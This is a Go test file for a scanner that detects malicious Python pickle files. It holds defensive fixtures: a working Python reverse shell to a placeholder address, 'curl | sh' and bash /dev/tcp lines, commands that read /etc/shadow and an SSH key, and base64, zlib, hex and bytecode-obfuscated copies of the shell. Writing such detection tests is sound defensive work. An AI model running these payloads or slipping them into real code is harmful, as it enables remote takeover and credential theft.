package rules

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/modelaudit/action/audit"
	sym "github.com/modelaudit/action/internal/pickle/symbolic"
)

// theFinding is the one finding of a program that has that rule and callable.
func theFinding(t *testing.T, program, want string) audit.Finding {
	t.Helper()
	data := assemble(t, program)
	tr := sym.Run(bytes.NewReader(data), 0, int64(len(data)), sym.Options{})
	j := Pickle(tr, PickleContext{Data: bytes.NewReader(data)})
	at := slices.Index(found(j), want)
	if at < 0 {
		t.Fatalf("%s\nfound %q, want %q", program, found(j), want)
	}
	return j.Findings[at]
}

func wrapped(text string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write([]byte(text))
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

const reverse = `import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);pty.spawn("sh")`

// Code that a call is given is named in the call's finding, however it is spelled.
func TestCarriedCode(t *testing.T) {
	exec := func(arg string) string { return `GLOBAL "builtins" "exec"; ` + arg + `TUPLE1; REDUCE; STOP` }
	for _, tt := range []struct{ name, program, finding, says string }{
		{"command", evil + `UNICODE "true"; TUPLE1; REDUCE; STOP`, "MA101 os.system", `calls os.system("true"), which runs commands`},
		{"shell", evil + `UNICODE "curl http://192.0.2.1/x | sh"; TUPLE1; REDUCE; STOP`, "MA101 os.system", "downloads something and runs it"},
		{"list of arguments", `GLOBAL "subprocess" "Popen"; EMPTY_LIST; MARK; UNICODE "cat"; UNICODE "/home/ann/.ssh/id_rsa"; APPENDS; TUPLE1; REDUCE; STOP`, "MA101 subprocess.Popen", "reads credentials (.ssh/id_)"},
		{"python", exec(fmt.Sprintf(`UNICODE %q; `, reverse)), "MA101 builtins.exec", "opens a reverse shell"},
		{"text of a long line", exec(fmt.Sprintf(`UNICODE %q; `, "\n"+reverse+strings.Repeat("#", 1<<20))), "MA101 builtins.exec", "opens a reverse shell"},
		{"text of many bytes that says nothing", exec(fmt.Sprintf(`BINUNICODE %q; `, strings.Repeat("x = 1\n", 2000))), "MA101 builtins.exec", "calls builtins.exec(a text of 12000 bytes), "},
		{"bytes", exec(fmt.Sprintf(`SHORT_BINBYTES %q; `, reverse)), "MA101 builtins.exec", "opens a reverse shell"},
		{"base64", exec(fmt.Sprintf(`UNICODE "import base64;exec(base64.b64decode('%s'))"; `, base64.StdEncoding.EncodeToString([]byte(reverse)))), "MA101 builtins.exec", "opens a reverse shell"},
		{"base64 of zlib", exec(fmt.Sprintf(`UNICODE "exec(zlib.decompress(base64.b64decode('%s')))"; `, wrapped(reverse))), "MA101 builtins.exec", "hides code (zlib in base64)"},
		{"hexadecimal", exec(fmt.Sprintf(`UNICODE "exec(bytes.fromhex('%s'))"; `, hex.EncodeToString([]byte(reverse)))), "MA101 builtins.exec", "opens a reverse shell"},
		{"computed argument", exec(fmt.Sprintf(`GLOBAL "zlib" "decompress"; GLOBAL "base64" "b64decode"; UNICODE %q; TUPLE1; REDUCE; TUPLE1; REDUCE; `, wrapped(reverse))), "MA101 builtins.exec", "opens a reverse shell"},
		{"text of many bytes", exec(fmt.Sprintf(`BINUNICODE %q; `, strings.Repeat("x = 1\n", 2000)+reverse)), "MA101 builtins.exec", "opens a reverse shell"},
		{"nested pickle", `GLOBAL "_pickle" "loads"; SHORT_BINBYTES "\x80\x04cos\nsystem\nVtrue\n\x85R."; TUPLE1; REDUCE; STOP`, "MA101 _pickle.loads", `the pickle in its arguments calls os.system("true")`},
		{"code object", `GLOBAL "types" "CodeType"; MARK; BININT1 1; SHORT_BINBYTES "\x97\x00"; UNICODE "os"; UNICODE "rm -rf x"; TUPLE2; UNICODE "__import__"; UNICODE "system"; TUPLE2; TUPLE; REDUCE; STOP`, "MA101 types.CodeType", "starts programs (os system)"},
		{"cloudpickle", `PROTO 4; GLOBAL "cloudpickle.cloudpickle" "_builtin_type"; UNICODE "CodeType"; TUPLE1; REDUCE; MARK; UNICODE "os"; UNICODE "system"; TUPLE2; TUPLE; REDUCE; STOP`, "MA105", "starts programs (os system)"},
		{"applied method", `GLOBAL "operator" "methodcaller"; UNICODE "system"; UNICODE "cat /etc/shadow"; TUPLE2; REDUCE; GLOBAL "os" "name"; TUPLE1; REDUCE; STOP`, "MA105", "reads credentials"},
		{"unlisted function", `GLOBAL "acme" "run"; UNICODE "bash -i >& /dev/tcp/192.0.2.1/1"; TUPLE1; REDUCE; STOP`, "MA102 acme.run", "a text that it is given opens a reverse shell"},
		{"legacy source", fmt.Sprintf(`MARK; UNICODE "module"; GLOBAL "acme" "Net"; UNICODE "net.py"; UNICODE %q; TUPLE; BINPERSID; STOP`, reverse), "MA111", "opens a reverse shell"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := theFinding(t, tt.program, tt.finding)
			if !strings.Contains(f.Message, tt.says) {
				t.Errorf("%s\ndoes not say %q", f.Message, tt.says)
			}
			if f.Severity != audit.Critical {
				t.Errorf("severity %s: %s", f.Severity, f.Message)
			}
		})
	}
}

// Texts are no evidence where nothing runs them.
func TestPlainTexts(t *testing.T) {
	text := fmt.Sprintf("UNICODE %q; ", "os.system('curl http://192.0.2.1 | sh') # "+reverse)
	check(t, []sample{
		{"in a dict", `EMPTY_DICT; UNICODE "notes"; ` + text + `SETITEM; STOP`, ""},
		{"in a set", anOrdered + text + text + `SETITEM; STOP`, ""},
		{"as a path", `GLOBAL "pathlib" "PosixPath"; ` + text + `TUPLE1; REDUCE; STOP`, ""},
	})
	f := theFinding(t, `PROTO 2; GLOBAL "acme" "Tokenizer"; UNICODE "https://example.com open file"; TUPLE1; REDUCE; STOP`, "MA102 acme.Tokenizer")
	if f.Message != `calls acme.Tokenizer("https://example.com open file")` {
		t.Errorf("an ordinary text is graded: %s", f.Message)
	}
}

// Names in marshalled code are found whatever version wrote it. The code is
// "def f(): import socket, subprocess; subprocess.call(['/bin/sh'])".
func TestMarshalledCode(t *testing.T) {
	for _, tt := range []struct{ version, code string }{
		{"3.6", "e30000000000000000000000000200000040000000730c0000006400640184005a006402530029036300000000000000000200000002000000430000007320000000640164006c007d00640164006c017d017c016a0264026701830101006400530029034ee9000000007a072f62696e2f73682903da06736f636b6574da0a73756270726f636573735a0463616c6c290272020000007203000000a9007204000000fa083c737472696e673eda01660100000073040000000001100172060000004e290172060000007204000000720400000072040000007205000000da083c6d6f64756c653e010000007300000000"},
		{"3.8", "e3000000000000000000000000000000000200000040000000730c0000006400640184005a00640253002903630000000000000000000000000200000003000000430000007320000000640164006c007d00640164006c017d017c01a00264026701a10101006400530029034ee9000000007a072f62696e2f73682903da06736f636b6574da0a73756270726f636573735a0463616c6c290272020000007203000000a9007204000000fa083c737472696e673eda01660100000073040000000001100172060000004e290172060000007204000000720400000072040000007205000000da083c6d6f64756c653e01000000f300000000"},
		{"3.10", "e3000000000000000000000000000000000200000040000000730c0000006400640184005a00640253002903630000000000000000000000000200000003000000430000007320000000640164006c007d00640164006c017d017c01a00264026701a10101006400530029034ee9000000007a072f62696e2f73682903da06736f636b6574da0a73756270726f636573735a0463616c6c290272020000007203000000a9007204000000fa083c737472696e673eda01660100000073040000001001100172060000004e290172060000007204000000720400000072040000007205000000da083c6d6f64756c653e0100000073020000000c00"},
		{"3.11", "e30000000000000000000000000100000000000000f30c0000009700640084005a00640153002902630000000000000000000000000300000003000000f3420000009700640164006c007d00640164006c017d017c01a002000000000000000000000000000000000000000064026701a6010000ab01000000000000000001006400530029034ee9000000007a072f62696e2f73682903da06736f636b6574da0a73756270726f63657373da0463616c6c29027204000000720500000073020000002020fa083c737472696e673eda016672080000000100000073340000008000d8041dd0041dd0041dd0041dd0041dd0041dd0041dd0041dd8040e874f824f9059904bd10420d40420d00420d00420d00420f3000000004e29017208000000a90072090000007207000000fa083c6d6f64756c653e720b00000001000000731e000000f003010101f002020121f000020121f000020121f000020121f0000201217209000000"},
		{"3.13", "e30000000000000000000000000100000000000000f30a000000950053001a00720067012902630000000000000000000000000300000003000000f3380000009500530153004b006e00530153004b016e015501520500000000000000000000000000000000000053022f0135010000000000002000670029034ee9000000007a072f62696e2f73682903da06736f636b6574da0a73756270726f63657373da0463616c6c29027204000000720500000073020000002020da083c737472696e673eda016672080000000100000073130000008000df041dd8040e874f814f9059904bd50420f3000000004e29017208000000a90072090000007207000000da083c6d6f64756c653e720b00000001000000730a000000f003010101f3020201217209000000"},
	} {
		data, err := hex.DecodeString(tt.code)
		if err != nil {
			t.Fatal(err)
		}
		f := theFinding(t, fmt.Sprintf(`GLOBAL "marshal" "loads"; BINBYTES %q; TUPLE1; REDUCE; STOP`, data), "MA101 marshal.loads")
		if !strings.Contains(f.Message, "opens a reverse shell") || !strings.Contains(f.Message, "hides code (compiled code)") {
			t.Errorf("Python %s: %s\n%q", tt.version, f.Message, compiled(data))
		}
	}
}

// What is looked at is bounded for a stream, not only for a call.
func TestCargoBudget(t *testing.T) {
	h := newHold(nil, 1<<30)
	text := &sym.Node{Kind: sym.String, Text: strings.Repeat("a ", maxCargoText)}
	call := &sym.Call{Func: &sym.Node{Kind: sym.Object}, Args: []*sym.Node{text}}
	for range 100 {
		h.of(call)
	}
	if h.left > 0 {
		t.Errorf("%d bytes are left of %d", h.left, maxStreamCargo)
	}
	if c := h.of(call); len(c.Snippets) > 0 {
		t.Error("a text is looked at beyond the budget")
	}
}

func FuzzCargo(f *testing.F) {
	f.Add([]byte(reverse))
	f.Add([]byte(wrapped(reverse)))
	f.Add([]byte("\x80\x04cos\nsystem\nVtrue\n\x85R."))
	f.Add([]byte("\xe3\x00\x00\x00\x00z\x07/bin/sh"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, k := range []sym.Kind{sym.Bytes, sym.String} {
			call := &sym.Call{Func: &sym.Node{Kind: sym.Object}, Args: []*sym.Node{{Kind: k, Text: string(data)}}}
			c := CargoOf(nil, call)
			if len(c.Snippets) > maxSnippets || len(c.Calls) > 3 {
				t.Errorf("%d snippets, %d calls", len(c.Snippets), len(c.Calls))
			}
		}
	})
}
